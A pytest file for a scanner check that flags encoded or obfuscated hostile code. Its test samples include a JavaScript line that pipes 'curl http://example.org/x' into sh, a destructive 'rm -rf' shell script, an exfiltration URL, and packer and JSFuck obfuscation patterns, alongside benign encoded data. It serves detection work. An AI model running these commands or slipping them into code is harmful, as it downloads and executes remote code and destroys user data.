"""What is encoded is judged by what comes out: code and programs are told, pictures and tables are not."""

import base64
import gzip
import json
import random

import pytest

from qirvo.checks.encoded_payloads import CHECK
from tests.support.plugins import a_subject

HARMFUL = b"const c = require('child_process'); c.exec('curl http://example.org/x | sh');"
MAP = json.dumps({"version": 3, "sources": ["a.ts"] * 9}).encode()
DICE = random.Random(3)  # noqa: S311  # the same in every run


def b64(content: bytes) -> str:
    return base64.b64encode(content).decode()


def rules(text: str, path: str = "dist/index.js") -> list[str]:
    return [finding.rule for finding in CHECK.run(a_subject(added={path: text}))]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (f"run('{b64(HARMFUL)}')", "hidden-code"),
        (f"run('{b64(b64(HARMFUL).encode())}')", "hidden-code"),
        (f"run('{b64(gzip.compress(HARMFUL, mtime=0))}')", "hidden-code"),
        (f"run('{HARMFUL.hex()}')", "hidden-code"),
        (f"run([{', '.join(map(str, HARMFUL))}])", "hidden-code"),
        (f"run([{','.join(map(hex, HARMFUL))}])", "hidden-code"),
        ("run('" + "".join(f"\\x{byte:02x}" for byte in HARMFUL) + "')", "hidden-code"),
        (f"run('{b64(b'#!/bin/sh' + bytes([10]) + b'rm -rf ~/everything/of/mine')}')", "hidden-code"),
        (f"run('{b64(bytes([127]) + b'ELF' + bytes(90))}')", "hidden-program"),
        (f"go('{b64(b'https://example.org/collect/all/of/it')}')", "hidden-address"),
        (f"go('{b64(b'http://192.0.2.7/a')}')", "hidden-address"),
        (f"require(atob('{b64(b'child_process')}'))", "hidden-name"),
        ("eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))", "disguised-code"),
        ("var _0x1a2b=['a'];" + "".join(f"_0x{n:04x}(_0x{n + 1:04x});" for n in range(4096, 4110)), "disguised-code"),
        ("[][(![]+[])[+[]]" + "+(![]+[])[+!+[]]" * 40 + "]()", "disguised-code"),
        (f"new Function(atob('{b64(DICE.randbytes(3000))}'))()", "encrypted-code"),
    ],
    ids=lambda value: str(value)[:30],
)
def test_what_is_hidden_is_an_alarm(text: str, rule: str):
    assert rules(text) == [f"encoded-payloads/{rule}"]


def test_a_payload_in_a_file_of_data_is_an_alarm():
    assert rules(json.dumps({"logo": b64(HARMFUL)}), "data/logo.json") == ["encoded-payloads/hidden-code"]


def test_web_assembly_in_code_is_only_a_warning():
    [finding] = CHECK.run(a_subject(added={"dist/index.js": f"load('{b64(bytes([0]) + b'asm' + bytes(90))}')"}))
    assert (finding.rule, finding.severity) == ("encoded-payloads/embedded-web-assembly", "warning")


@pytest.mark.parametrize(
    "text",
    [
        f"const i = 'data:image/png;base64,{b64(DICE.randbytes(3000))}';",
        f"const f = 'data:font/woff2;base64,{b64(b'wOF2' + DICE.randbytes(3000))}';",
        f"//# sourceMappingURL=data:application/json;base64,{b64(MAP)}",
        f"const sri = 'sha384-{b64(DICE.randbytes(48))}';",
        f"const table = '{b64(DICE.randbytes(9000))}'; const t = atob(table);",
        "const codes = [" + ", ".join(str(DICE.randrange(256)) for _ in range(256)) + "];",
        "const primes = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47, 53, 59, 61, 67, 71, 73];",
        "const words = 'abandonabilityableaboutaboveabsentabsorbabstractabsurdabuseaccess';",
        "const hash = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';",
        "const s = '\\xe9\\xe8\\xe0\\xe2\\xf9\\xfb\\xee\\xf4\\xef\\xeb\\xfc\\xf1\\xe7\\xc9\\xc8';",
        f"const cert = '{b64(bytes([48, 130]) + DICE.randbytes(700))}';",
        "const big = _0n + _1n * _2n; const x = [![], !![]];",
        f"const json = atob('{b64(json.dumps({'name': 'weather', 'kind': 'widget', 'n': 5}).encode())}');",
    ],
    ids=lambda value: value[:30],
)
def test_what_is_only_encoded_is_not_told(text: str):
    assert rules(text) == []


def test_an_example_in_a_document_is_not_told():
    assert rules(f"Try `{b64(HARMFUL)}`.", "docs/use.md") == []
